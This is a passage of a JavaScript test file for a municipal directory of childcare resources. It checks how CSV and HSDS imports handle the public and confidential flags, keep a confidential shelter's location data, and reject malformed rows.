    line({ ...base, ID: 'OT0003', 名称: '他市から来た公開ひろば', tsunagu_uuid: '00000000-0000-7000-8000-0000000000a3', 住所: 'さくら区本町3-3', tsunagu_public: '1', tsunagu_confidential: '0' }),
  ].join('\r\n') + '\r\n';
  const rep = assertOk(await w.admin.post(importPath(), file, { 'Content-Type': 'text/csv' }));
  assert.equal(rep.created, 3, JSON.stringify(rep));
  const get = async (name) => {
    const [id] = await searchIds(w.admin, q(name));
    return assertOk(await w.admin.get(`/api/v1/resources/${id}`));
  };
  const priv = await get('他市から来た非公開ひろば');
  assert.equal(priv.is_public, false, 'a staff-only place stays staff-only');
  const shelter = await get('他市から来たシェルター');
  assert.deepEqual([shelter.is_public, shelter.is_confidential, shelter.front_door], [false, true, '045-000-5555']);
  assert.equal((await get('他市から来た公開ひろば')).is_public, true);
  assert.deepEqual(await searchIds(srv.anon(), q('他市から来た')), [(await get('他市から来た公開ひろば')).id]);
  // the file can only narrow: with public=0 nothing it creates is public
  const again = file.replace(/OT000/g, 'OW000').replace(/他市から来た/g, '別の市から来た').replace(/0000000000a/g, '0000000000b');
  assertOk(await w.admin.post(importPath().replace('public=1', 'public=0'), again, { 'Content-Type': 'text/csv' }));
  assert.equal((await get('別の市から来た公開ひろば')).is_public, false);
  // a value that is not 1 or 0 is a rejected row
  const bad = file.replace(/OT000/g, 'OX000').replace(',1,0\r\n', ',yes,0\r\n');
  const r = await w.admin.post(importPath(), bad, { 'Content-Type': 'text/csv' });
  assert.equal(r.status, 422, r.text.slice(0, 300));
  assert.equal(r.json.errors[0].column, 'tsunagu_public');
});

test('a confidential place imported again from open data without its address keeps each part of its location the file leaves out', async () => {
  const r0 = assertOk(await w.admin.post(importPath(), csv([row('H0001', '秘匿再取込シェルター', 'ヒトクサイトリコミ', '35.5', '139.67')]), { 'Content-Type': 'text/csv' }));
  assert.equal(r0.created, 1);
  const [id] = await searchIds(w.admin, q('秘匿再取込シェルター'));
  const cur = assertOk(await w.admin.get(`/api/v1/resources/${id}`));
  assertOk(await w.admin.put(`/api/v1/resources/${id}`, { ...toInput(cur), is_confidential: true, front_door: '045-000-8888' }));
  // the municipality's next file lists it with its city only, or with the front door's phone
  const bare = '\ufeff' + [HEADER, '141003,H0001,みなと市,秘匿再取込シェルター,ヒトクサイトリコミ,地域子育て支援拠点,,,,,'].join('\r\n') + '\r\n';
  assertOk(await w.admin.post(importPath(), bare, { 'Content-Type': 'text/csv' }));
  let g = assertOk(await w.admin.get(`/api/v1/resources/${id}`));
  assert.equal(g.address.line, cur.address.line, 'the street address is kept');
  assert.deepEqual(g.location, cur.location, 'the coordinates are kept');
  assert.equal(g.phone, cur.phone, 'the phone is kept');
  const phoneOnly = bare.replace(/,,,,,\r\n$/, ',,,,045-000-8888,\r\n');
  assertOk(await w.admin.post(importPath(), phoneOnly, { 'Content-Type': 'text/csv' }));
  g = assertOk(await w.admin.get(`/api/v1/resources/${id}`));
  assert.equal(g.address.line, cur.address.line);
  assert.deepEqual(g.location, cur.location);
  assert.equal(g.phone, '045-000-8888', 'a phone the file gives is taken');
  assert.equal(g.is_confidential, true);
});

test('import: an organization name of spaces only is a rejected row', async () => {
  const n0 = assertOk(await w.admin.get('/api/v1/resources?limit=1')).total;
  const body = '\ufeff全国地方公共団体コード,ID,地方公共団体名,名称,名称_カナ,種別,住所,団体名\r\n' +
    '141003,B0001,みなと市,空白団体ひろば,クウハクダンタイ,地域子育て支援拠点,本町1-1,\u3000 \u3000\r\n';
  const r = await w.admin.post(importPath(), body, { 'Content-Type': 'text/csv' });
  assert.equal(r.status, 422, r.text.slice(0, 300));
  assert.equal(r.json.errors[0].column, '団体名');
  const hs = [{ id: 'b1', name: '空白団体HSDS', status: 'active', organization: { id: 'o1', name: '\u3000 ', description: '' },
    attributes: [{ id: 'a1', taxonomy_term: { id: 't1', code: 'hub', name: 'x', taxonomy: 'tsunagu-resource-types' } }] }];
  const h = await w.admin.post('/api/v1/import?format=hsds', JSON.stringify(hs), { 'Content-Type': 'application/json' });
  assert.equal(h.status, 422, h.text.slice(0, 300));
  assert.equal(h.json.errors[0].column, 'organization');
  assert.equal(assertOk(await w.admin.get('/api/v1/resources?limit=1')).total, n0, 'nothing written');
});
